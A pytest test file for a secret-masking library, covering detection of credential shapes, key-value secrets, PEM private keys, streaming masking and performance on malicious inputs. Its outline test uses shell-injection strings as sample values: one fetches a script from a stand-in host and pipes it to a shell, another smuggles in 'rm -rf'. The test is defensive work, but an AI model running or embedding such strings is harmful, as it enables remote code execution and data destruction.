"""What is masked, what is not, and how a mask looks."""

import base64
import json
import re
import time

import pytest
from pydantic import JsonValue

from curtainwall.facts.refusal import Unclear
from curtainwall.facts.secrets.masks import Masker, StreamMasker, contains_mask, outline_of
from curtainwall.facts.secrets.names import is_secret_key

MASKER = Masker(b"key")
LONG = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0"


def kinds(text: str) -> list[str]:
    return re.findall(r"\[masked:([^:\]]+):[0-9a-f]{8}\]", MASKER.mask_text(text))


@pytest.mark.parametrize(
    ("secret", "kind"),
    [
        (f"sk-ant-api03-{LONG}", "anthropic-key"), (f"sk-proj-{LONG}", "openai-key"), (f"sk-{LONG}", "api-key"), (f"ghp_{LONG}",
        "github-token"),
        (f"gho_{LONG}", "github-token"), (f"ghu_{LONG}", "github-token"), (f"ghs_{LONG}", "github-token"), (f"ghr_{LONG}", "github-token"),
        (f"github_pat_11AA_{LONG}", "github-token"), (f"glpat-{LONG}", "gitlab-token"), (f"AIza{LONG}", "google-key"),
        ("AKIAIOSFODNN7EXAMPLE", "aws-key"),
        ("ASIAIOSFODNN7EXAMPLE", "aws-key"), (f"xoxb-1-{LONG}", "slack-token"), (f"eyJhbGciOiJ9.eyJzdWIi.{LONG}", "jwt"),
        (f"sk_live_{LONG}", "stripe-key"),
        (f"npm_{LONG}", "npm-token"), (f"hf_{LONG}", "huggingface-token"), (f"pypi-AgEIcHlwaS5vcmc{LONG}", "pypi-token"),
    ],
)  # fmt: skip
def test_a_credential_is_known_by_its_shape(secret: str, kind: str) -> None:
    for text in (secret, f"see {secret}.", f'"{secret}"', f"x={secret}&y", f"({secret})"):
        masked = MASKER.mask_text(text)
        assert secret[12:] not in masked
        assert f"[masked:{kind}:" in masked


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("https://u:p@ss@host/x", "https://u:[masked:url-password:…]@host/x"),
        (f"https://{LONG}@host/x", "https://[masked:url-password:…]@host/x"),
        ("https://hooks.slack.com/services/T0/B0/XyZ12345", "https://hooks.slack.com/services/[masked:slack-webhook:…]"),
        ("Authorization: Basic dXNlcjpwdw==", "Authorization: Basic [masked:authorization:…]"),
        ("curl -H 'Authorization: token abcdefgh' x", "curl -H 'Authorization: token [masked:authorization:…]' x"),
        ('"authorization": "Bearer abcdefgh"', '"authorization": "Bearer [masked:authorization:…]"'),
        ("Bearer abc123def456", "Bearer [masked:bearer:…]"),
        ("Set-Cookie: sid=abc; Path=/", "Set-Cookie: [masked:cookie:…]"),
        ("AWS_SECRET_ACCESS_KEY=abcdEFGH/+12", "AWS_SECRET_ACCESS_KEY=[masked:access-key:…]"),
        ("export DB_PASSWORD=correcthorse", "export DB_PASSWORD=[masked:password:…]"),
        ("DB_PASS=correcthorse", "DB_PASS=[masked:password:…]"),
        ("password: correcthorse", "password: [masked:password:…]"),
        ("  password: hunter22 # note", "  password: [masked:password:…] # note"),
        ("password = 'hunter2'", "password = '[masked:password:…]'"),
        ('"apiKey": "abcd1234"', '"apiKey": "[masked:api-key:…]"'),
        ('{\\"client_secret\\": \\"abcd1234\\"}', '{\\"client_secret\\": \\"[masked:secret:…]\\"}'),
        ("mysql --password=hunter22 -u x", "mysql --password=[masked:password:…] -u x"),
        ("?token=abc123def&x=1", "?token=[masked:token:…]&x=1"),
        ("İ password=hunter22", "İ password=[masked:password:…]"),
        ('password="abcd1234', 'password="[masked:password:…]'),
        ('"password":\n  "hunter22"', '"password":\n  "[masked:password:…]"'),
        ('{\\"password\\":\\n \\"hunter22\\"}', '{\\"password\\":\\n \\"[masked:password:…]\\"}'),
        ("a:\n  password: >-\n    hunter22\n\n    more33\n  b: c", "a:\n  password: >-\n    [masked:password:…]\n  b: c"),
        ("- token: |  # ours\n    abc123def456", "- token: |  # ours\n    [masked:token:…]"),
        ("+password: |\r\n+  hunter22\r\n+user: x", "+password: |\r\n+  [masked:password:…]\r\n+user: x"),
        ("token: 'correcthorsebattery'", "token: '[masked:token:…]'"),
    ],
)
def test_a_secret_is_known_by_what_stands_before_it(text: str, masked: str) -> None:
    assert re.sub(r":[0-9a-f]{8}\]", ":…]", MASKER.mask_text(text)) == masked


@pytest.mark.parametrize(
    "text",
    [
        "token = get_token()", "password: SecretStr = None", "api_key: str", "if token == self.eof:",
        "connect(password=password, token=self.token)",
        "const token = await client.fetchToken1()", "token = tokens[0]", "max_tokens: 100000000", "token_count=12345678",
        "next_page_token=abcdef123456",
        "https://user:${PASSWORD}@host", "https://user:<password>@host", "password: ********", "password = os.environ['X']",
        "token: undefined", "password: required",
        "bearer authentication scheme", "task-management-system-with-a-long-name", "sk-folding-cube-with-dashes",
        "Authorization: required", "Authorization: x",
        "token = 'access_token'", "secret: !vault |", "password = {{ vault_password }}", "my_key: abcdefgh12345", "key = value1234567",
        "cookie: yes", "ghp_short",
        "password: 'two words 12345'", "a-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "eyJ.a.b",
        "https://host:8080/a@b", "keys: a, b, c", "secret: abc",
        'token:\n  "type1": x', "password: |\n  two words 12345", "password: |\nhunter22: x", "password: |\n  hunter22\n  and more",
        "password: |\n" + "  hunter22\n" * 80, "see\na -----END PRIVATE KEY-----", "-----END PRIVATE KEY-----",
        "token: TokenType.ACCESS_2", "password=", "pass: correcthorse", "_", "",
    ],
)  # fmt: skip
def test_code_and_prose_are_left_alone(text: str) -> None:
    assert MASKER.mask_text(text) == text


BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nVJTUt9Us8cKjMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNb\n"


@pytest.mark.parametrize(
    ("text", "rest"),
    [
        (f"a\n-----BEGIN RSA PRIVATE KEY-----\n{BODY}-----END RSA PRIVATE KEY-----\nb", "a\n#\nb"),
        (f"a -----BEGIN PRIVATE KEY-----\n{BODY}", "a #"),
        (f"-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB\n\n{BODY}MIIE… (cut here)", "#… (cut here)"),
        (json.dumps(f"-----BEGIN EC PRIVATE KEY-----\n{BODY}-----END EC PRIVATE KEY-----\n"), '"#\\n"'),
        (json.dumps(f"-----BEGIN EC PRIVATE KEY-----\n{BODY}"), '"#"'),
        (f"-----BEGIN PRIVATE KEY-----\r\n{BODY}".replace("\n", "\r\n") + "The end (really).", "# end (really)."),
        ("-----BEGIN PGP PRIVATE KEY BLOCK-----\nx\n-----END PGP PRIVATE KEY BLOCK-----", "#"),
        ("-----BEGIN PRIVATE KEY-----" * 3, "###"),
    ],
)
def test_a_private_key_is_masked_as_one_even_where_it_is_cut_off(text: str, rest: str) -> None:
    masked = re.sub(r"\[masked:private-key:[0-9a-f]{8}\]", "#", MASKER.mask_text(text))
    assert re.sub(r"[\r\n\\n]*(?=\"?\Z)", "", masked) == re.sub(r"[\r\n\\n]*(?=\"?\Z)", "", rest)


END = "-----END RSA PRIVATE KEY-----"


@pytest.mark.parametrize(
    ("text", "rest"),
    [
        (f"{BODY}{END}\nb", "#\nb"),
        (f"a b\n{BODY}kQ==\n{END}", "a b\n#"),
        (f"{BODY}{END}\n".replace("\n", "\r\n"), "#\r\n"),
        (f"@@ -9,5 +9,5 @@ {BODY}{END}", "@@ -9,5 +9,5 @@ #"),
        (re.sub("^", " ", f"{BODY}{END}", flags=re.MULTILINE), " #"),
        (re.sub("^", "+", f"{BODY}{END}", flags=re.MULTILINE), "#"),
        (re.sub("^", "-", f"x y\n{BODY}{END}", flags=re.MULTILINE), "-x y\n-#"),
        (json.dumps(f"{BODY}{END}"), '"#"'),
        ('"' + BODY.replace("\n", '\\n" +\n  "') + f'{END}"', '"#"'),
        (f"{BODY}{END}\n{BODY}{END}", "#\n#"),
    ],
)
def test_a_private_key_is_masked_by_its_end_where_its_beginning_is_missing(text: str, rest: str) -> None:
    assert re.sub(r"\[masked:private-key:[0-9a-f]{8}\]", "#", MASKER.mask_text(text)) == rest


def test_a_key_that_a_difference_removes_is_masked_where_it_is_cut_off() -> None:
    text = re.sub("^", "-", f"-----BEGIN PRIVATE KEY-----\n{BODY}", flags=re.MULTILINE)
    assert BODY[:20] not in MASKER.mask_text(text)


def test_pieces_put_together_are_the_text_and_what_is_shown_of_it() -> None:
    text = f"a ghp_{LONG} b\npassword: hunter22\n{BODY}{END}\nc [masked:x:1234abcd]"
    pieces = MASKER.pieces(text)
    assert "".join(piece.real for piece in pieces) == text
    assert "".join(piece.shown for piece in pieces) == MASKER.mask_text(text)
    assert [piece.real for piece in pieces if piece.is_hidden] == [f"ghp_{LONG}", "hunter22", f"{BODY}{END}"]


def test_a_mask_is_stable_says_its_kind_and_depends_on_the_key() -> None:
    secret = f"ghp_{LONG}"
    one, two = MASKER.mask_text(f"{secret} {secret}").split()
    assert one == two == Masker(b"key").mask_text(secret)
    assert re.fullmatch(r"\[masked:github-token:[0-9a-f]{8}\]", one)
    assert Masker(b"other").mask_text(secret) != one
    assert MASKER.mask_text(f"ghp_{LONG[::-1]}") != one


def test_what_is_masked_already_stays_as_it_is() -> None:
    for text in (
        "password=[masked:password:1234abcd]",
        "[masked:private-key:1234abcd]: 'abcd12345'",
        "https://u:[masked:url-password:1234abcd]@h",
        "Authorization: Bearer [masked:x:1234abcd]",
    ):
        assert MASKER.mask_text(text) == text
    known = Masker(b"key", {"odd": "masked:token"})
    assert known.mask_text("[masked:token:1234abcd]") == "[masked:token:1234abcd]"
    assert MASKER.mask_text("Bearer[masked:bearer:12345678] token=[masked:") == "Bearer[masked:bearer:12345678] token=[masked:"


def test_secrets_that_overlap_become_one_mask() -> None:
    assert kinds(f'password="xx-ghp_{LONG}"') == ["github-token"]
    assert kinds(f"Bearer sk-ant-{LONG}") == ["anthropic-key"]
    assert kinds(f"https://u:ghp_{LONG}@h") == ["github-token"]


def test_known_credentials_are_masked_in_every_spelling_by_their_name() -> None:
    masker = Masker(b"key", {"my wifi!": 'pä"ss/w\\rd', "tiny": "abc", "short": "abcde", "": "emptyname"})
    for text in (
        'pä"ss/w\\rd',
        json.dumps('pä"ss/w\\rd'),
        "p%C3%A4%22ss%2Fw%5Crd",
        "p%c3%a4%22ss%2fw%5crd",
        "p%c3%A4%22ss%2Fw%5crd",
        "p%C3%a4%22ss%2fw%5Crd",
        "Basic dXNlcjpww6Qic3Mvd1xyZA==",
        "cMOkInNzL3dccmQ=",
    ):
        assert "[masked:my-wifi-:" in masker.mask_text(f"see {text} there"), text
    assert masker.mask_text("abc abcde emptyname") == re.sub(r"\s+", " ", masker.mask_text("abc  abcde  emptyname"))
    assert masker.mask_text("abc") == "abc"
    assert contains_mask(masker.mask_text("xabcdey"))
    assert "[masked:credential:" in masker.mask_text("emptyname")


def test_values_under_secret_keys_are_masked_at_any_depth() -> None:
    value: JsonValue = {
        "password": "x", "Api-Key": "y", "nested": [{"clientSecret": ["a", ["b"]], "max_tokens": 12, "token": 7, "tokens": "many",
        "secret": None}],
        "Authorization": "Basic abc", "privateKey": "", "schema": {"password": {"type": "string"}}, "env": [{"name": "API_TOKEN",
        "value": "v"}, {"name": "n", "value": "v"}],
        "note": f"see ghp_{LONG}", f"ghp_{LONG}": True, "nextPageToken": "abc",
    }  # fmt: skip
    masked = re.sub(r":[0-9a-f]{8}\]", "]", json.dumps(MASKER.mask_json(value)))
    assert json.loads(masked) == {
        "password": "[masked:password]", "Api-Key": "[masked:api-key]",
        "nested": [{"clientSecret": ["[masked:secret]", ["[masked:secret]"]], "max_tokens": 12, "token": 7, "tokens": "many",
        "secret": None}],
        "Authorization": "[masked:authorization]", "privateKey": "", "schema": {"password": {"type": "string"}},
        "env": [{"name": "API_TOKEN", "value": "[masked:token]"}, {"name": "n", "value": "v"}],
        "note": "see [masked:github-token]", "[masked:github-token]": True, "nextPageToken": "abc",
    }  # fmt: skip


def test_a_secret_value_keeps_the_name_it_is_known_by() -> None:
    masker = Masker(b"key", {"wifi": "hunter22"})
    assert masker.mask_json({"password": "hunter22"}) == {"password": masker.mask_text("hunter22")}
    assert masker.mask_json({"token": "[masked:x:1234abcd]"}) == {"token": "[masked:x:1234abcd]"}


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("password", "password"), ("DB_PASSWORD_2", "password"), ("userPassword", "password"), ("x-api-key", "api-key"), ("APIKey",
        "api-key"), ("apikey", "apikey"),
        ("secret_value", "secret"), ("SECRET_KEY", "secret-key"), ("accessToken", "token"), ("id-token", "token"), ("passwords",
        "passwords"), ("MYSQL_PASS", "password"),
        ("tokens", None), ("max_tokens", None), ("token_type", None), ("keyboard", None), ("passage", None), ("pass", None),
        ("stopToken", None), ("", None), ("2", None), ("é", None),
    ],
)  # fmt: skip
def test_names_of_secrets_are_known_in_any_style(name: str, kind: str | None) -> None:
    assert is_secret_key(name) == kind


def test_a_mask_in_arguments_is_found_wherever_it_is() -> None:
    mask = "[masked:token:ab12]"
    assert contains_mask(f"x {mask} y") == mask
    assert contains_mask([1, None, {"a": [True, {"b": f"{mask}"}]}]) == mask
    assert contains_mask({mask: 1}) == mask
    assert contains_mask({"a": "[masked:one:1234abcd]", "b": "[masked:two:1234abcd]"}) == "[masked:one:1234abcd]"
    assert contains_mask({"a": ["[masked:", "masked", 1.5]}) is None
    deep: JsonValue = mask
    for _ in range(100_000):
        deep = [deep]
    assert contains_mask(deep) == mask
    while isinstance(deep, list):
        deep = deep[0]


@pytest.mark.parametrize("key", [None, "key"])
def test_a_value_nested_too_deeply_is_refused_and_one_of_200_levels_is_not(key: str | None) -> None:
    deep: JsonValue = "x"
    for _ in range(200):
        deep = [deep] if key is None else {key: deep}
    assert MASKER.mask_json(deep) == deep
    with pytest.raises(Unclear, match="nested more than 200 levels deep"):
        MASKER.mask_json([deep])


def test_a_stream_shows_plain_words_at_once_and_holds_what_may_become_a_secret() -> None:
    stream = StreamMasker(Masker(b"key", {"wifi": "correct horse battery"}))
    assert stream.feed("Hello wor") == "Hello "
    assert stream.feed("ld, all ") == "world, all "
    assert stream.feed("the password: hun") == ""
    assert re.fullmatch(r"the password: \[masked:password:\w{8}\]\n", stream.feed("ter22\n"))
    assert stream.feed("correct hog, correct horse") == "correct hog, "
    assert stream.feed("s, a correct horse") == "correct horses, a "
    assert stream.feed(" staple ") == "correct horse staple "
    assert re.fullmatch(r"correct \[masked:wifi:\w{8}\] ", stream.feed("correct correct horse batte") + stream.feed("ry "))
    assert stream.feed("-----BEGIN PRIVATE KEY-----\nMIIE\n") == ""
    assert re.fullmatch(r"\[masked:private-key:\w{8}\]\nend ", stream.feed("MIIE\n-----END PRIVATE KEY-----\nend "))
    assert stream.feed("ghp_" + LONG[:20]) == ""
    assert re.fullmatch(r"\[masked:github-token:\w{8}\]", stream.feed(LONG[20:]) + stream.finish())
    assert stream.finish() == ""


@pytest.mark.parametrize("spelling", ["a%2Fb%2Fc%2Fd%3D", "a%2fb%2Fc%2fd%3D", "a%2Fb%2fc%2Fd%3d"])
def test_a_stream_holds_an_escaped_credential_back_wherever_it_is_cut(spelling: str) -> None:
    masker = Masker(b"key", {"wifi": "a/b/c/d="})
    for cut in range(1, len(spelling)):
        stream = StreamMasker(masker)
        shown = stream.feed(f"see {spelling[:cut]}") + stream.feed(f"{spelling[cut:]} there ") + stream.finish()
        assert re.fullmatch(r"see \[masked:wifi:\w{8}\] there ", shown), (cut, shown)


def test_a_stream_masks_a_key_without_a_beginning_behind_a_whole_one_wherever_it_is_cut() -> None:
    body = "\n" + "M" * 60 + "\n-----END PRIVATE KEY-----"
    text = f"-----BEGIN PRIVATE KEY-----{body}{body[1:]}"
    for cut in range(1, len(text)):
        stream = StreamMasker(MASKER)
        shown = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.finish()
        assert re.fullmatch(r"(\[masked:private-key:\w{8}\]){2}", shown), (cut, shown)


def test_a_stream_never_holds_back_more_than_a_bound() -> None:
    stream = StreamMasker(MASKER)
    shown = sum(len(stream.feed("x" * 10_000)) for _ in range(50))
    assert shown > 300_000
    endless = StreamMasker(MASKER)
    shown = sum(len(endless.feed("-----BEGIN PRIVATE KEY-----\n" if not number else "(not Base64)\n" * 1000)) for number in range(30))
    assert shown > 200_000
    secret = StreamMasker(MASKER)
    out = "".join(secret.feed(piece) for piece in ["ghp_", *["a1" * 5000] * 40, " rest"]) + secret.finish()
    assert out.startswith("[masked:github-token:")


@pytest.mark.parametrize(
    "unit",
    [
        "sk-", "sk-a1 ", "-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n", "://", "://a:b", "token", "token=", "token='",
        "eyJ", "eyJaaaaaaaa.",
        "bearer ", "bearer a", "password: ", "authorization: ", "ghp_", "[masked:", "key:", "AKIA", "hooks.slack.com/services/", "SG.",
        "[masked:a:1234abcd]ghp_",
        "password=[masked:a:1234abcd]", f"ghp_{LONG} ", "Authorization: Basic ", "\\", "token\\", 'password="',
        "-----BEGIN RSA PRIVATE KEY-----\\n", "a", " ", "\n",
        "-----END PRIVATE KEY-----", "-----END PRIVATE KEY-----\n", "A\n-----END PRIVATE KEY-----\n",
        "+" * 600 + "\n-----END PRIVATE KEY-----",
        "A\\n", f"{LONG}\n" * 900 + "-----END PRIVATE KEY-----\n", "password: |\n", "password: |\n  ", "password: |\n  " + "a1\n  " * 70,
        "password: >\n\n\n", 'password:\n"', "password:\n'" + "a" * 4000 + "\n", "password: |\n " + "a" * 4000,
        "hvs.", "dop_v1_", "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVkt", f"{'M' * 24}.", ":AA" + "a" * 33, "?sig=a", "--password a", "<password>",
        '["authorization", ', '"name": "token", "value": ', "machine a login b password ", "machine a\n", "login a\npassword b\n",
        "mysql -pabc ",
        "curl -u a:", "a:5432:", "basic YWFh", "auth=", "sshpass -p ", "key.pem:12:-----BEGIN PRIVATE KEY-----\n", "password=/a",
        "password=$",
        "a:" * 300 + "\n-----END PRIVATE KEY-----\n", "-----BEGIN PRIVATE KEY-----\n" + "a-" * 80 + "\n", "\\n\\n-----END PRIVATE KEY-----",
        "\\t" * 300 + "-----END PRIVATE KEY-----\n", "token='" + "a-" * 200 + "'",
    ],
)  # fmt: skip
def test_a_megabyte_of_malice_takes_a_moment(unit: str) -> None:
    text = unit * (1_000_000 // len(unit))
    begun = time.process_time()
    once = MASKER.mask_text(text)
    assert time.process_time() - begun < 5
    assert MASKER.mask_text(once) == once


@pytest.mark.parametrize(
    ("secret", "outline"),
    [
        ("hunter22", "letters and digits"),
        ("Tr0ub4dor-and/3=", "letters and digits"),
        ("é" * 8, "letters and digits"),
        ("$(curl${IFS}evil.example.org|sh)1", "$(…${…}…|…)…"),
        ("a; rm -rf b", "…; … … …"),
        (f"-----BEGIN PRIVATE KEY-----\n{BODY}-----END PRIVATE KEY-----", "… … …\n… … …"),
        ("-----BEGIN PRIVATE KEY-----\nrm x\n-----END PRIVATE KEY-----", "… … …\n… …\n… … …"),
    ],
)
def test_an_outline_shows_what_could_act_and_none_of_the_letters(secret: str, outline: str) -> None:
    assert outline_of(secret) == outline


def test_a_long_outline_is_cut_and_says_so() -> None:
    assert outline_of("!a" * 300).endswith("…[200 characters cut]")


def test_outlines_are_told_for_each_mask_at_any_depth() -> None:
    value: JsonValue = {
        "content": f"password = 'hun$ter22'\nghp_{LONG}",
        "env": [{"name": "API_TOKEN", "value": "a|b"}, 7],
        f"ghp_{LONG}": None,
    }
    outlines = MASKER.outlines(value, MASKER.mask_json(value))
    assert {mask.split(":")[1]: outline for mask, outline in outlines.items()} == {
        "password": "…$…",
        "github-token": "letters and digits",
        "token": "…|…",
    }
    assert MASKER.outlines({"a": ["plain"]}, {"a": ["plain"]}) == {}


def test_a_known_credential_is_named_in_every_spelling_and_an_ordinary_word_is_not() -> None:
    masker = Masker(b"key", {"shop": "kept-in-the-config-7531", "pgpassword": "postgres", "phrase": "correct horse battery"})
    for spelling in ("kept-in-the-config-7531", base64.b64encode(b"kept-in-the-config-7531").decode(), b"kept-in-the-config-7531".hex()):
        assert masker.credential_in({"a": [{"b": f"x {spelling} y"}]}) == "shop"
        assert masker.credential_in({f"x {spelling}": 1}) == "shop"
    assert masker.credential_in("a correct horse battery") == "phrase"
    assert masker.credential_in({"image": "postgres:17", "n": 1, "none": None}) is None
